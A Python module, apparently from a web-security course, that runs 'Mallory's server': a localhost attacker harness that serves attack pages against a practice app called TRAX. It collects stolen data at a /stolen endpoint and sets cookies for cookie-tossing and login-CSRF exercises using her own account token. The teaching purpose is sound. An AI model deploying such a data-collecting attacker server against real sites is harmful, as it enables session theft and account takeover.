"""Mallory's server: it serves her pages, and receives what they find.

It knows TRAX only from outside: an address, and the requests that anyone may send. It serves this
machine only, and stores no cookie that it receives. What each page does is in pages/.
"""

from pathlib import Path
from string import Template

from starlette.applications import Starlette
from starlette.concurrency import run_in_threadpool
from starlette.middleware import Middleware
from starlette.requests import Request
from starlette.responses import JSONResponse, PlainTextResponse, Response
from starlette.routing import Route

from classroom.browser_model import Client
from classroom.exchanges import credentials
from classroom.server.network import HOST, listen
from classroom.server.server_thread import ServerThread
from minisrv.errors import NotFound, Refused
from minisrv.settings import Settings
from minisrv.web.trusted_hosts import KnownHosts

PAGES = Path(__file__).with_name("pages")
TYPES = {".html": "text/html", ".js": "text/javascript"}
MALLORY = {"email": "mallory@evil.test", "password": "nothing to see here"}
SECONDS = 60
KEPT_BYTES = 4096


class Attacker:
    """A server at a free port, whose pages attack the TRAX that answers at `port`."""

    def __init__(self, port: int, cookie: str) -> None:
        """Start; `cookie` is the name of TRAX's session cookie, which anyone can see."""
        self.victim = f"http://trax.localhost:{port}"
        self._trax, self._cookie = f"http://{HOST}:{port}", cookie
        self.stolen: list[str] = []
        listener = listen(0)
        self.port: int = listener.getsockname()[1]
        settings = Settings(host=HOST, port=self.port)
        guard = Middleware(KnownHosts, settings=settings, weak=True, error_response=_refusal)
        routes = [
            Route("/stolen", self._take, methods=["POST"]),
            Route("/{name}", self._page, methods=["GET"]),
        ]
        app = Starlette(routes=routes, middleware=[guard], exception_handlers={Refused: _refused})
        self._thread = ServerThread(app, settings, listener)
        self._thread.start()

    def url(self, host: str, name: str) -> str:
        """Return the address of one of her pages at a host that is hers, such as evil.localhost."""
        return f"http://{host}:{self.port}/{name}"

    def stop(self) -> None:
        """End the server and free its port. Safe to call twice."""
        self._thread.stop()

    async def _page(self, request: Request) -> Response:
        path = PAGES / request.path_params["name"]
        if path.parent != PAGES or not path.is_file():
            raise NotFound
        text = page_text(path.name, self.victim, self.url("evil.localhost", "").rstrip("/"))
        # A script that is loaded as a module needs CORS: Mallory allows every origin.
        headers = {"Cache-Control": "no-store", "Access-Control-Allow-Origin": "*"}
        response = Response(text, headers=headers, media_type=TYPES[path.suffix])
        if path.stem in ("cookie-tossing", "login-csrf"):
            token = await run_in_threadpool(self._own_token)
            if path.stem == "cookie-tossing":
                response.set_cookie(
                    self._cookie, token, domain="trax.localhost", path="/", secure=True
                )
        return response

    async def _take(self, request: Request) -> Response:
        text = (await request.body())[:KEPT_BYTES].decode("utf-8", "replace")
        self.stolen.append("\n".join(map(_of_the_course, text.split("\n"))))
        return PlainTextResponse("thank you")

    def _own_token(self) -> str:
        """Return the token of Mallory's own account; create the account if necessary."""
        client = Client(self._trax, timeout=SECONDS)
        for path in ("/api/signup", "/api/signin"):
            client.post(path, json=MALLORY)
        return client.cookies.get(self._cookie, "")


def page_text(file: str, victim: str, evil: str) -> str:
    """Return a file of pages/ with the addresses of TRAX and of Mallory's server."""
    text = (PAGES / file).read_text(encoding="utf-8")
    return Template(text).safe_substitute(victim=victim, evil=evil)


def _of_the_course(line: str) -> str:
    """Return a line of stolen data without cookies that do not belong to the course."""
    if "=" not in line:
        return line
    return "".join(value for _, value in credentials.of_the_course((("cookie", line),)))


def _refusal(error: Refused) -> Response:
    return JSONResponse({"error": error.message}, error.status)


async def _refused(request: Request, error: Refused) -> Response:
    return _refusal(error)
